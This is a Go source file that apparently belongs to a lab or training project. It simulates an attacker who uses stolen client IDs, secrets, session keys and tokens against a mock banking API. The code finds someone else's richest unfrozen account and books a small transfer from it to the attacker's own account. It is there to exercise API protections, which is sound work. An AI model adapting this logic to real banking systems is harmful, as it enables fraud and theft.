package attacker

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"slices"

	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

const pittance = 100 // what a robbery takes: 1.00, in minor units

// account is an account as the API shows it.
type account struct {
	ID       string `json:"id"`
	Balance  int64  `json:"balance"`
	Currency string `json:"currency"`
	Frozen   bool   `json:"frozen"`
}

// someAccount is somebody's account number, as it stands on every invoice.
const someAccount = catalog.BobAccount

// robbery is what to book, given the list of accounts that the API shows: from the
// account of somebody else that has the most in it to the attacker's own. An attacker who
// is shown nobody else's account pays from their own, to somebody.
func (g *Given) robbery(body []byte) (from account, to string, err error) {
	var list struct {
		Accounts []account `json:"accounts"`
	}
	if err := json.Unmarshal(body, &list); err != nil {
		return account{}, "", fmt.Errorf("read the list of accounts: %w", err)
	}
	var own account
	for _, a := range list.Accounts {
		switch {
		case a.ID == g.Account:
			own = a
		case !a.Frozen && a.Balance > from.Balance:
			from = a
		}
	}
	switch {
	case from.ID != "":
		return from, g.Account, nil
	case own.ID != "" && g.User != "":
		return own, someAccount, nil
	}
	return account{}, "", errors.New("there is no account to take money from")
}

// rob books a small transfer.
func (p *program) rob(ctx context.Context) error {
	if err := p.enter(ctx); err != nil {
		return err
	}
	list, err := p.call(ctx, protect.Call{Path: "/v1/accounts"})
	if err != nil {
		return err
	}
	from, to, err := p.g.robbery(list.Body)
	if err != nil {
		return err
	}
	if err := p.book(ctx, from, to); err != nil {
		return err
	}
	p.g.Say("Booked a transfer from %s to %s with a program that is not the app.", from.ID, to)
	return nil
}

func (p *program) book(ctx context.Context, from account, to string) error {
	body, err := json.Marshal(map[string]any{
		"from": from.ID, "to": to, "amount": pittance, "currency": from.Currency, "reference": p.g.Reference,
	})
	if err != nil {
		return err
	}
	_, err = p.call(ctx, protect.Call{Method: http.MethodPost, Path: "/v1/transfers", Body: body})
	return err
}

// robAs robs with the first of the identities that gets through, and says what
// stopped the last one where none does.
func robAs(ctx context.Context, g *Given, identities []protect.Identity) (Result, error) {
	err, tried := errors.New("there is nothing to try"), []string{}
	for _, as := range identities {
		tried = append(tried, stolen(as)...)
		var p *program
		if p, err = newProgram(g, as); err != nil {
			return Result{}, err
		}
		err = p.rob(ctx)
		p.close()
		if err == nil {
			return Result{Claim: true, Stolen: tried}, nil
		}
		var r *refusal
		if !errors.As(err, &r) {
			return Result{}, err
		}
		g.Say("Tried %s: %s.", describe(as), r.obstacle)
	}
	result, err := stopped(err)
	result.Stolen = tried
	return result, err
}

// stolen is what of an identity was taken from somebody: what stands for the user, and what
// proves the app, which is its ID where it has no secret.
func stolen(as protect.Identity) []string {
	proof := cmp.Or(as.Proof, as.Secret, as.ClientID)
	return slices.DeleteFunc([]string{proof, string(as.Session), as.Token}, func(text string) bool { return text == "" })
}

// describe says what is in an identity without giving it away.
func describe(as protect.Identity) string {
	text := "no client ID"
	if as.ClientID != "" {
		text = "the client ID " + as.ClientID
	}
	if as.Secret != "" {
		text += " with the secret " + loot.Fingerprint(as.Secret)
	}
	if as.Certificate != nil {
		text += " with a client certificate"
	}
	if as.Session != "" {
		text += " and a session key"
	}
	if as.Token != "" {
		text += " and an access token"
	}
	return text
}
